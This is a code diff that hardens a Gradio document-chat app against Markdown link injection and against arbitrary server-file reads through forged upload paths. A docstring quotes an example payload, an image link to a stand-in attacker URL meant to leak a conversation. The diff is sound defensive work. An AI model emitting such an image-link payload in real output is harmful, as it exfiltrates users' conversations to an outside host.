@@ -71,14 +71,22 @@ def _label(p) -> str:
 
 
 _LINE_MARKUP = re.compile(r"^(\s{0,3})(#|=+\s*$|-{3,}\s*$|>)", re.M)
+# Where the chatbot's Markdown (marked, GFM) would make a link of plain text: http://, https://,
+# ftp:// and www. addresses (any case) and e-mail addresses, reference definitions `[x]: url`.
+# A backslash escape at each of these places breaks the pattern; marked shows the same text.
+_AUTOLINK = re.compile(r"(?=://)|(?<=www)(?=\\?\.)|(?=@)|(?<=\])(?=\\?:)", re.I)
+_AUTOLINK_ESCAPE = re.compile(r"\\(?=://)|(?<=www)\\(?=\\?\.)|\\(?=@)|(?<=\])\\(?=\\?:)", re.I)  # plain_text's inverse
 
 
 def safe_markdown(text: str) -> str:
     """Model or document text made safe to render: no HTML, and no Markdown that fetches or links
     anything (a quoted document could hold ![](http://attacker/?data) to leak a conversation).
-    Headings, rules and block quotes of quoted documents are shown as plain text."""
+    Bare URLs and e-mail addresses stay text (a backslash escape keeps marked from linking them);
+    a Mermaid block stays code (its `click` lines would be links). Headings, rules and block
+    quotes of quoted documents are shown as plain text. (Inside `code` the escapes show.)"""
     text = html.escape(text, quote=False)
-    text = text.replace("![", "!\\[").replace("](", "]\\(")
+    text = text.replace("![", "!\\[").replace("](", "]\\(").replace("```mermaid", "```\\mermaid")
+    text = _AUTOLINK.sub(r"\\", text)
     return _LINE_MARKUP.sub(lambda m: m.group(1) + "\\" + m.group(2), text)
 
 
@@ -100,11 +108,12 @@ def render_answer(answer: Answer, answer_id: str) -> str:
         return f'<a href="#cite-{answer_id}-{n}" title="{title}">[{n}]</a>'
 
     text = _CITE.sub(link, text)
+    reason = _AUTOLINK.sub(r"\\", html.escape(answer.reason or ""))
     if answer.abstained:
-        why = f"\n\n<small>Why: {html.escape(answer.reason)}</small>" if answer.reason else ""
+        why = f"\n\n<small>Why: {reason}</small>" if answer.reason else ""
         return f"⊘ **Not in your documents.** {text}{why}"
     if answer.mode == "extractive":
-        why = f" <small>— {html.escape(answer.reason)}</small>" if answer.reason else ""
+        why = f" <small>— {reason}</small>" if answer.reason else ""
         return f"**Quoted from your documents**{why}\n\n{text}"
     if answer.unsupported_sentences:
         k = len(answer.unsupported_sentences)
@@ -118,6 +127,7 @@ def plain_text(markdown: str) -> str:
     text = re.sub(r'<a href="#cite-[^"]*"[^>]*>(\[\d+\])</a>', r"\1", text)
     text = re.sub(r"^(⊘ \*\*Not in your documents\.\*\* |\*\*Quoted from your documents\*\*\s*)", "", text.strip())
     text = "\n".join(ln for ln in text.splitlines() if not ln.startswith("⚠"))
+    text = _AUTOLINK_ESCAPE.sub("", text).replace("```\\mermaid", "```mermaid")
     text = re.sub(r"\\([\[(#=>-])", r"\1", text)
     return html.unescape(text).strip()
 
@@ -192,6 +202,7 @@ def _error(err: Exception) -> gr.Error:
 class PageHandlers:
     def __init__(self, service: RagService):
         self.service = service
+        self.uploaded: set[str] = set()  # build_demo swaps in the paths Gradio's upload route wrote
 
     def respond(self, message: str, history: list, collections: list[str] | None = None, k: int = 5,
                 backend: str | None = None, model: str = "", temperature: float = 0.0, gate: bool = True,
@@ -277,11 +288,40 @@ class PageHandlers:
                 raise RagError("no file chosen; drop documents on the upload box first")
             if not (collection or "").strip():
                 raise RagError("no collection named; pick one or type a new name in 'Into collection'")
+            paths = self._uploaded(files)
             progress(0.0, desc="saving uploads")
-            job = self.service.upload(user, collection, [(Path(f).name, Path(f)) for f in files])
+            job = self.service.upload(user, collection, [(p.name, p) for p in paths])
         except RagError as err:
             raise _error(err) from err
+        self._forget(paths)  # saved into the collection's upload folder: Gradio's copy is not needed
         return self._wait(job, progress, f"indexing into {collection}"), collection.strip()
+
+    def _uploaded(self, files: list[str]) -> list[Path]:
+        """The files, each checked to be one that Gradio's upload route wrote: a client can send
+        any server path as a file value (gradio_client does), and it must never be read."""
+        root = Path(gradio_upload_folder()).resolve()
+        known = {Path(p).resolve() for p in list(self.uploaded)}
+        out = []
+        for f in files:
+            path = Path(str(f))
+            real = path.resolve()
+            if path.is_symlink() or real not in known or not real.is_relative_to(root) or not real.is_file():
+                raise RagError(f"{path.name}: not a file uploaded from this page; drop it on the upload box "
+                               "(the page never reads files from the server's disk)")
+            out.append(real)
+        return out
+
+    def _forget(self, paths: list[Path]) -> None:
+        """Delete Gradio's temporary copies of uploads, so they cannot be fetched or reused."""
+        gone = set(paths)
+        for name in [n for n in list(self.uploaded) if Path(n).resolve() in gone]:
+            self.uploaded.discard(name)
+        for path in paths:
+            path.unlink(missing_ok=True)
+            try:
+                path.parent.rmdir()  # Gradio keeps each upload in a folder of its own
+            except OSError:
+                pass
 
     def index_folder(self, folder: str, collection: str | None, request: gr.Request = None,
                      progress=gr.Progress()):
@@ -325,7 +365,8 @@ class PageHandlers:
 def build_demo(service: RagService) -> gr.Blocks:
     h = PageHandlers(service)
     cfg = service.config
-    with gr.Blocks(title="ragapp — chat with your documents", fill_height=True) as demo:
+    # delete_cache: uploads never added to a collection are deleted after an hour
+    with gr.Blocks(title="ragapp — chat with your documents", fill_height=True, delete_cache=(600, 3600)) as demo:
         gr.Markdown("## ragapp — chat with your documents\nAnswers come only from your collections; "
                     "each [n] opens its source. Answers the documents do not hold say so.")
         with gr.Row(equal_height=False):
@@ -389,8 +430,16 @@ def build_demo(service: RagService) -> gr.Blocks:
                          ).then(h.refresh, [collections, target], lists, api_visibility="private")
         timer = gr.Timer(2.0)
         timer.tick(h.jobs, None, jobs, api_visibility="private", show_progress="hidden", queue=False)
+    h.uploaded = demo.upload_file_set
     demo.queue(default_concurrency_limit=4)
     return demo
+
+
+def gradio_upload_folder() -> str:
+    """Where Gradio's upload route writes (GRADIO_TEMP_DIR)."""
+    from gradio.utils import get_upload_folder
+
+    return get_upload_folder()
 
 
 def __getattr__(name: str):
